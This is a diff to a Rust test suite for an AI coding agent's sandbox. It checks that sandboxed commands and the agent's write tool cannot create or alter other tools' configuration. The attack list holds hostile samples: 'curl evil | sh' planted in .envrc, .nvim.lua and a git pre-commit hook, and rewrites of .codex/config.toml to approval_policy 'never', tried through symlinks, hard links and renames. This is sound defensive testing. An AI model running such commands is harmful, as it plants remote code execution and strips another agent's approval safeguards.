@@ -266,7 +266,8 @@ async fn background_shells_are_confined_like_any_command() {
 #[tokio::test]
 async fn with_the_network_on_sandboxed_commands_reach_it() {
     let sandbox = Sandbox::new();
-    let settings = sandbox.project.path().join(".larik/settings.json");
+    // The user's own settings: a project's `network: true` is ignored (tests/tests/trust.rs).
+    let settings = sandbox.home.path().join(".config/larik/settings.json");
     std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
     std::fs::write(&settings, json!({"sandbox": {"network": true}}).to_string()).unwrap();
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
@@ -277,4 +278,65 @@ async fn with_the_network_on_sandboxed_commands_reach_it() {
     assert!(results[0].contains("connected"), "{}", results[0]);
     assert!(listener.accept().is_ok(), "the connection reached the listener");
     assert!(results[1].contains("written"), "the rest of the sandbox still holds its shape: {}", results[1]);
+}
+
+/// Other tools' configuration that starts programs or decides what another agent may do, each
+/// tried every way a command could reach it: absent and existing, written directly, from a
+/// subdirectory by a relative path, through a symlink or a hard link made inside the project,
+/// and by renaming its parent or itself. The directory `core.hooksPath` names is kept too.
+#[tokio::test]
+async fn other_tools_configuration_stays_unchanged_whatever_a_command_tries() {
+    let sandbox = Sandbox::new();
+    let root = repository(&sandbox);
+    std::fs::create_dir_all(root.join(".codex")).unwrap();
+    std::fs::write(root.join(".codex/config.toml"), "approval_policy = \"untrusted\"\n").unwrap();
+    std::fs::write(root.join(".envrc"), "export SAFE=1\n").unwrap();
+    std::fs::create_dir_all(root.join(".githooks")).unwrap();
+    std::fs::create_dir_all(root.join("src/deep")).unwrap();
+    git(&root, &["config", "core.hooksPath", ".githooks"]);
+    let attacks = [
+        // Absent: created directly, from a subdirectory, by a tool other than the shell.
+        "mkdir -p .helix && printf '[[language]]\\nname = \\\"python\\\"\\nlanguage-servers = [\\\"evil\\\"]\\n' > .helix/languages.toml",
+        "cd src/deep && mkdir -p ../../.zed && echo '{\"lsp\": {}}' > ../../.zed/settings.json",
+        "echo 'vim.cmd(\"!curl evil | sh\")' > .nvim.lua",
+        "python3 -c \"open('.exrc', 'w').write('!evil')\"",
+        "mkdir -p .gemini && echo '{}' > .gemini/settings.json",
+        "mkdir -p .cursor && echo '{}' > .cursor/mcp.json",
+        "echo '{\"mcp\": {}}' > opencode.json",
+        // Existing: overwritten, appended to, replaced by a rename, its parent renamed.
+        "echo 'approval_policy = \"never\"' > .codex/config.toml",
+        "echo 'curl evil | sh' >> .envrc",
+        "echo evil > envrc.new && mv envrc.new .envrc",
+        "mv .codex .codex-old && mkdir .codex && echo 'approval_policy = \"never\"' > .codex/config.toml",
+        // Through links made inside the project.
+        "ln -s .codex codex-link && echo 'approval_policy = \"never\"' > codex-link/config.toml",
+        "ln .envrc envrc-hard && echo evil >> envrc-hard",
+        "ln -s .helix helix-link; mkdir -p helix-link/x && echo evil > helix-link/languages.toml",
+        // The hooks directory git was told to use.
+        "echo 'curl evil | sh' > .githooks/pre-commit && chmod +x .githooks/pre-commit",
+        "mv .githooks .githooks-old && mkdir .githooks && echo evil > .githooks/pre-commit",
+    ];
+    let (results, asked) = run_commands(&sandbox, &[], &attacks.iter().map(|line| (*line).to_owned()).collect::<Vec<_>>()).await;
+    assert!(asked.is_empty(), "sandboxed commands run without asking: {asked:?}");
+    for (attack, result) in attacks.iter().zip(&results) {
+        assert!(
+            ["Read-only file system", "Device or resource busy", "Is a directory", "Permission denied", "Operation not permitted", "Invalid cross-device link", "File exists"].iter().any(|error| result.contains(error)),
+            "`{attack}` failed: {result}"
+        );
+    }
+    for absent in [".helix", ".zed", ".nvim.lua", ".exrc", ".gemini", ".cursor", "opencode.json", ".codex-old", ".githooks-old", ".githooks/pre-commit"] {
+        assert!(!root.join(absent).exists(), "{absent} was not created (and no stand-in was left behind)");
+    }
+    assert_eq!(std::fs::read_to_string(root.join(".codex/config.toml")).unwrap(), "approval_policy = \"untrusted\"\n");
+    assert_eq!(std::fs::read_to_string(root.join(".envrc")).unwrap(), "export SAFE=1\n");
+    // The write tools refuse the same names.
+    let mock = MockLlm::start(Scenario { responses: vec![Step::tool("w", "write", json!({"path": "src/.helix/languages.toml", "content": "x"})), Step::tool("w2", "write", json!({"path": ".codex/config.toml", "content": "x"})), Step::text("done")] }).await.unwrap();
+    let mut agent = Agent::spawn(&root, &sandbox.env(mock.url()));
+    agent.initialize().await;
+    let session = agent.new_session(&root).await;
+    agent.prompt(&session, "write", |_| "allow_once").await;
+    for result in tool_results(&mock) {
+        assert!(result.contains("is protected"), "{result}");
+    }
+    assert!(!root.join("src/.helix").exists());
 }
